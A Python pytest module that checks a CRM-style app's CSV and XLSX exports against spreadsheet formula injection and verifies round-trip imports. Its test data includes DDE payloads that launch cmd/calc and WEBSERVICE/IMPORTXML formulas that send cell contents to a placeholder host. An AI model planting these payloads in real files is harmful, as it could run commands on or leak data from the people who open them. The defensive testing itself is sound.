"""T6: text that begins like a formula leaves as text in every export, and comes back as it was."""

from __future__ import annotations

import csv
import io
import itertools
import re
import unicodedata
import zipfile
from pathlib import Path
from typing import Any

import openpyxl  # type: ignore[import-untyped]
import pytest

from guanxi.engines.exchange.tests.scenes import Importing, all_rows, csv_of
from guanxi.engines.exchange.tests.test_exports import export
from guanxi.testing.security_report import Figures

pytestmark = [pytest.mark.security("T6"), pytest.mark.django_db]
SIGNS = "=+-@＝＋－＠﹢﹣﹦﹫−"
BEFORE = ("", " ", "  ", "\t", "\r", "\n", "\r\n", "\u00a0", "\u3000", "\u200b", "\ufeff", "\x01", "\x1f", "\u2028", "\u202e", "'", "''", '"', "a;", "a|", "a\t", "a\n", "a,", 'a",', "a\r\n", ";", "\u00ad")  # fmt: skip
BODIES = ("1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x.example","y")')
WHOLE = (
    "=cmd|'/C calc'!'A1'", "=DDE(\"cmd\";\"/C calc\";\"x\")", "=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", '@SUM(1+1)*cmd|\' /C calc\'!A0',
    "-2+3+cmd|' /C calc'!A0", "+thespanishinquisition(cmd|'/c calc'!A)", "=IMPORTXML(CONCAT(\"http://x.example/\",A1),\"//a\")", "=WEBSERVICE(\"http://x.example/\"&A1)",
    "{=1+1}", "[=1]", "sep=;", "ID;P", "=1+1\n=2+2", "x\n\n=1", "-", "=", "+8613800138000", "-12.5", "+1e3", "007", "1e5", "TRUE", "_x003D_1+1", "\u202e=1", "＝１＋１",
)  # fmt: skip
TEXTS = tuple(
    dict.fromkeys(
        [
            *(f"{before}{sign}{BODIES[0]}" for before, sign in itertools.product(BEFORE, SIGNS)),
            *(f"{sign}{body}" for sign, body in itertools.product(SIGNS, BODIES)),
            *WHOLE,
        ]
    )
)
SEPARATORS = ",;\t|"
# Blanks, control and format characters, and letters without a shape.
UNSEEN = (
    "".join(c for c in map(chr, range(0x10000)) if unicodedata.category(c) in ("Cc", "Cf", "Zs", "Zl", "Zp"))
    + "\u115f\u1160\u3164\uffa0\u034f"
)


def is_live(cell: str) -> bool:
    """Whether a spreadsheet may run a cell: its first visible character begins a formula, and it is no plain number."""
    seen = cell.lstrip(UNSEEN)
    if not seen or seen[0] not in SIGNS:
        return False
    try:
        float(seen.strip())
    except ValueError:
        return True
    return not seen.isascii()


def live_cells(text: str) -> list[str]:
    """Cells that would run in a program that expects any of the separators, reads quotes or (with a separator other than ours) does not, or breaks at every line end."""
    found = []
    for separator in SEPARATORS:
        for quoting in (csv.QUOTE_MINIMAL, *((csv.QUOTE_NONE,) if separator != "," else ())):
            for source in ([text], re.split(r"\r\n|\r|\n", text)):
                lines = (io.StringIO(one, newline="") for one in source)
                found += [
                    cell for one in lines for row in csv.reader(one, delimiter=separator, quoting=quoting) for cell in row if is_live(cell)
                ]
    return found


def test_the_judge_knows_a_formula() -> None:
    """Else the silence below would prove nothing."""
    for text in ("=1+1", " =1+1", "\t@x", "＝1", "a;=1", "a\n=1", "\ufeff+x", "-2+3", "a|-x"):
        assert live_cells(f'"{text}"'), text
    assert live_cells('"\'=1+1","-12.5","O\'Hara","a-b"') == []


@pytest.fixture
def furnished(cast: Any) -> list[str]:
    """Records whose texts begin like formulas, in fields of several kinds; their texts as they are kept."""
    cast.make("field", owner=None, object="customer", key="c_note", type="long_text", label_zh="=说明", label_en="@note")
    cast.make(
        "field",
        owner=None,
        object="customer",
        key="c_mark",
        type="choice",
        label_zh="+标记",
        label_en="-mark",
        options={"choices": [{"key": "a", "label_zh": "=1+1", "label_en": "@x"}]},
    )
    names = cast.owner.api
    kept = []
    for start in range(0, len(TEXTS), 100):
        part = TEXTS[start : start + 100]
        made = names.post(
            "customer/batch",
            {
                "operations": [
                    {"op": "create", "values": {"name": f"甲{start + n}", "c_note": text, "c_mark": "a", "tags": [f"={n}"]}}
                    for n, text in enumerate(part)
                ]
            },
        )
        assert made.status == 200, made.body
    kept = [row["c_note"] for row in all_rows(cast.owner, "customer", fields=["name", "c_note"])]
    assert len(kept) == len(TEXTS)
    return kept


FIELDS = ["name", "c_note", "c_mark", "tags", "owner"]


@pytest.mark.parametrize("form", ["labels", "machine"])
@pytest.mark.parametrize("language", ["zh", "en"])
def test_csv(cast: Any, furnished: list[str], language: str, form: str, security: Figures) -> None:
    assert cast.owner.api.patch("me", {"language": language}).status == 200
    _, content = export(cast.owner, "customer", fields=FIELDS, format="csv", form=form)
    text = content.decode("utf-8-sig")
    live = live_cells(text)
    security.add(cells=len(TEXTS) * len(FIELDS) * len(SEPARATORS), live=len(live))
    assert live == []


def test_xlsx(cast: Any, furnished: list[str], tmp_path: Path, security: Figures) -> None:
    _, content = export(cast.owner, "customer", fields=FIELDS, format="xlsx")
    path = tmp_path / "export.xlsx"
    path.write_bytes(content)
    live = live_in_book(path)
    cells = sum(1 for row in openpyxl.load_workbook(path).active.iter_rows() for _ in row)
    security.add(cells=cells, live=len(live))
    assert live == []


def live_in_book(path: Path) -> list[Any]:
    """Cells of a workbook that are not plain text where they begin like a formula, and parts that could run or call."""
    book = openpyxl.load_workbook(path)
    found = [
        c.value
        for sheet in book
        for row in sheet.iter_rows()
        for c in row
        if c.data_type == "f" or c.hyperlink or (isinstance(c.value, str) and is_live(c.value) and c.number_format != "@")
    ]
    with zipfile.ZipFile(path) as parts:
        found += [
            name
            for name in parts.namelist()
            if any(word in name for word in ("externalLink", "connections", "vbaProject", "macro", "oleObject", "ddeLink"))
        ]
        found += [name for name in parts.namelist() if name.endswith(".xml") and b"<f>" in parts.read(name)]
    return found


@pytest.mark.parametrize("kind", ["csv", "xlsx", "json"])
def test_round_trip(cast: Any, furnished: list[str], kind: str, security: Figures) -> None:
    """Exported and imported again as other records: every text is what it was."""
    _, content = export(cast.owner, "customer", fields=["name", "c_note"], format=kind)
    before = {row["id"] for row in all_rows(cast.owner, "customer", fields=["name"])}
    content = content.replace("甲".encode(), "乙".encode()) if kind == "csv" else content
    importing = Importing(cast.owner, "customer", content, f"again.{kind}", policy={"on_match": "create"})
    names = [column["name"] for column in importing.first["columns"]]
    note = next(name for name in names if name in ("=说明", "c_note"))
    importing.plan(fields={"name": names[0], "c_note": note})
    importing.step("dry-run")
    done = importing.step("commit")
    assert done["state"] == "done", (done, importing.problems()[:5])
    again = {row["name"]: row["c_note"] for row in all_rows(cast.owner, "customer", fields=["name", "c_note"]) if row["id"] not in before}
    first = {row["name"]: row["c_note"] for row in all_rows(cast.owner, "customer", fields=["name", "c_note"]) if row["id"] in before}
    changed = [
        (text, again.get(name.replace("甲", "乙") if kind == "csv" else name))
        for name, text in first.items()
        if again.get(name.replace("甲", "乙") if kind == "csv" else name) != text
    ]
    security.add(cells=len(first), changed=len(changed))
    assert changed == []


def test_the_report_of_an_import(cast: Any, tmp_path: Path, security: Figures) -> None:
    """The rows to mend are handed back as a workbook."""
    rows = [(text.replace("\r", "").replace("\n", "").replace("\x01", "").replace("\x1f", ""), "no phone") for text in TEXTS]
    importing = Importing(cast.owner, "customer", csv_of(("=名称", "+电话"), *rows), policy={"on_match": "create"})
    importing.plan(fields={"name": "=名称", "phone": "+电话"})
    importing.step("dry-run")
    answer = cast.owner.api.get(f"imports/{importing.id}/report.xlsx")
    assert answer.status == 200
    path = tmp_path / "report.xlsx"
    path.write_bytes(answer.content)
    live = live_in_book(path)
    security.add(cells=len(rows) * 2, live=len(live))
    assert live == []
    assert openpyxl.load_workbook(path).active.max_row > 100
